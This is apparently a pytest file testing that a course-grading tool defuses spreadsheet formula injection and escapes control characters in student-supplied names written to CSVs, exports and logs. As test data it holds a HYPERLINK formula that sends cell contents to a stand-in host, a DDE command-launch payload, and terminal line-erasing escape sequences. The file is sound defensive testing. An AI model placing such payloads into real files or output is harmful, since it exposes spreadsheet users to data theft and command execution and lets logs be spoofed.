"""Text a student chose (a folder name, a roster name, an email) is read, never run: every CSV tinytorch writes quotes
the cells a spreadsheet would run as formulas and reads them back exactly, holds no raw control character (each one
escaped, as the console and the grading log show it), and the console and the grading log show control characters as
escapes."""
import csv
import io
import itertools
import unicodedata

import pytest

from tinytorch.course.basics.untrusted_text import csv_cell, csv_row, csv_value, printable

FORMULAS = ['=1+2', '=HYPERLINK("http://e.test/?"&A1,"open")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1:A9)',
            '-', '+', '@', '=', '\uff1d1+2', '-1e5x', "'=1", "''@x"]
PLAIN = ['alice', 'carol.smith@uni.edu', '3', '-3.6', '+2', '-0.5e-3', '.5', '1e6', '', "O'Brien", "'quoted", 'a=b',
         'Zoë', '2026-12-02 10:00:00+00:00']


def _spreadsheet_runs(cell):
    "What OWASP says a spreadsheet runs: a cell starting with = + - @ tab or CR that isn't a plain number."
    try:
        float(cell)
        return False
    except ValueError:
        return cell[:1] in ('=', '+', '-', '@', '\t', '\r')


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text):
    cell = csv_cell(text)
    assert not _spreadsheet_runs(cell) and cell.startswith("'"), cell
    assert csv_value(cell) == text


@pytest.mark.parametrize("text, written", [('\t=1', '\\t=1'), ('\r=1', '\\r=1'), ('\n=1', '\\n=1'),
                                           ('\x1b[2K=1', '\\x1b[2K=1'), ('a\u2028b', 'a\\u2028b')])
def test_a_control_character_is_written_as_an_escape(text, written):
    "No raw control character in a CSV: a tab, a line break or an escape sequence is written as `printable` shows it."
    cell = csv_cell(text)
    assert cell == written and not _spreadsheet_runs(cell) and cell.isprintable(), cell


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_numbers_are_written_as_they_are(text):
    assert csv_cell(text) == text and csv_value(text) == text


def test_every_text_comes_back_exactly():
    """The quote is undone exactly, whatever the text without a control character: also texts that start with quotes and
    signs; a text with controls is written with them escaped, and never runs."""
    alphabet = ["'", '=', '-', '+', '@', '1', '.', 'e', 'a', ' ']
    texts = [''.join(t) for n in range(5) for t in itertools.product(alphabet, repeat=n)]
    for text in texts:
        assert csv_value(csv_cell(text)) == text, repr(text)
        assert not _spreadsheet_runs(csv_cell(text)), repr(text)
    for text in [''.join(t) for n in range(4) for t in itertools.product(["'", '=', '-', '\t', '\r', 'a'], repeat=n)]:
        assert not _spreadsheet_runs(csv_cell(text)) and csv_cell(text).isprintable(), repr(text)


def test_a_row_through_the_csv_writer_and_back():
    row = {'student': '=1+2', 'total': '-3.6', 'details': '@SUM(1)'}
    buf = io.StringIO()
    w = csv.DictWriter(buf, list(row))
    w.writeheader()
    w.writerow(csv_row(row))
    read = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert read == {'student': "'=1+2", 'total': '-3.6', 'details': "'@SUM(1)"}
    assert {k: csv_value(v) for k, v in read.items()} == row


def test_no_control_character_reaches_the_console():
    "Every C0 and C1 control, DEL, every invisible formatting character (bidi, zero-width) and the separators."
    hidden = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ('Cc', 'Cf', 'Zl', 'Zp')]
    assert '\x1b' in hidden and '\u202e' in hidden and '\u2066' in hidden and '\u200b' in hidden
    out = printable('x'.join(hidden))
    assert out.isprintable() and out.isascii(), [c for c in out if not c.isprintable()]
    assert printable('\x1b[1A\x1b[2K\rbob') == '\\x1b[1A\\x1b[2K\\rbob'
    assert printable('Zoë Ñúñez 李') == 'Zoë Ñúñez 李'


def test_a_file_name_that_is_not_utf8_prints():
    "os.listdir gives undecodable bytes as lone surrogates, which print() can't encode: they are escaped."
    name = b'caf\xe9'.decode('utf-8', 'surrogateescape')
    assert printable(name) == 'caf\\udce9'
    printable(name).encode('utf-8')


def test_the_grades_csv_quotes_a_formula_folder_and_reads_it_back(tmp_path):
    from tinytorch.course.grading.grade_table import Part, StudentResult, read_grades_csv, write_grades_csv, write_grading_log
    from tinytorch.course.grading.shards import merge_grade_csvs
    results = [StudentResult(name, {'test_a': Part('test_a', 'test', 2.0)}, failure=f"folder name {name!r} is not a valid student id")
               for name in ('=1+2', '@SUM(1)', '\x1b[1A\x1b[2Kmallory')]
    path = write_grades_csv(results, tmp_path / 'grades.csv', '11_embeddings')
    firsts = [line[0] for line in csv.reader(open(path, encoding='utf-8'))][1:]
    assert firsts[:2] == ["'=1+2", "'@SUM(1)"], firsts
    assert [r['student'] for r in read_grades_csv(path)] == ['=1+2', '@SUM(1)', '\\x1b[1A\\x1b[2Kmallory']   # escaped
    assert '\x1b' not in path.read_text(encoding='utf-8')
    merged = merge_grade_csvs(tmp_path / 'merged.csv', [path])['path']
    assert sorted(merged.read_text().splitlines()) == sorted(path.read_text().splitlines())   # the merge sorts by student
    log = write_grading_log(results, tmp_path / 'grades.log', '11_embeddings').read_text()
    assert '\x1b' not in log and '\\x1b[1A\\x1b[2Kmallory: failed' in log, log


def test_final_grades_and_exports_quote_formulas_and_canvas_still_matches(tmp_path):
    from lms_importers import read_canvas_import
    from tinytorch.course.results.final_grades import write_final_grades
    from tinytorch.course.results.lms import Roster, Student, write_export
    rows = [{'student': 'mallory', 'q1': '2', 'autograded_total': '0', 'manual_total': '2', 'total': '2', 'max_points': '4',
             'status': 'complete', 'details': '=1+2', 'timestamp': '', 'seconds_late': '', 'raw_total': '2',
             'late_penalty': '-0.5'}]
    final = list(csv.reader(open(write_final_grades({'q1': 4.0}, rows, tmp_path / 'final.csv'))))[1]
    header = list(csv.reader(open(tmp_path / 'final.csv')))[0]
    assert final[7] == "'=1+2" and final[header.index('late_penalty')] == '-0.5', final
    roster = Roster({'mallory': Student('mallory', '=HYPERLINK("http://e.test","x")', '@x', '-m@uni.edu', '4405', '+S')},
                    'roster')
    for kind in ('canvas', 'moodle', 'nbgrader'):
        out, notes = write_export(kind, tmp_path, '11_embeddings', rows, roster, None, tmp_path / f'{kind}.csv')
        cells = [c for line in csv.reader(open(out, encoding='utf-8')) for c in line]
        assert [c for c in cells if _spreadsheet_runs(c)] == [], (kind, cells)
        assert any('written with a quote in front' in n for n in notes), notes
    seen = read_canvas_import(tmp_path / 'canvas.csv', [{'id': '4405', 'sis_user_id': '+S', 'login_id': 'mallory'}])
    assert seen['grades'] == {'4405': {'11_embeddings': 2.0}} and seen['unmatched'] == [], seen


def test_a_grade_line_and_the_roster_lines_escape_controls():
    from tinytorch.course.grading.grade_table import StudentResult
    from tinytorch.course.grading.grading import _result_line
    from tinytorch.course.results.lms import Roster, Student, roster_mismatches
    name = '\x1b[1A\x1b[2K\rmallory'
    line = _result_line(StudentResult(name, {}, failure=f"folder name {name!r} is not a valid student id"))
    assert '\x1b' not in line and '\r' not in line and line.lstrip().startswith('\\x1b[1A'), repr(line)
    lines = roster_mismatches(Roster({name: Student(name)}, 'roster'), ['\u202eevil'])
    assert all(text.isprintable() for text in lines), lines
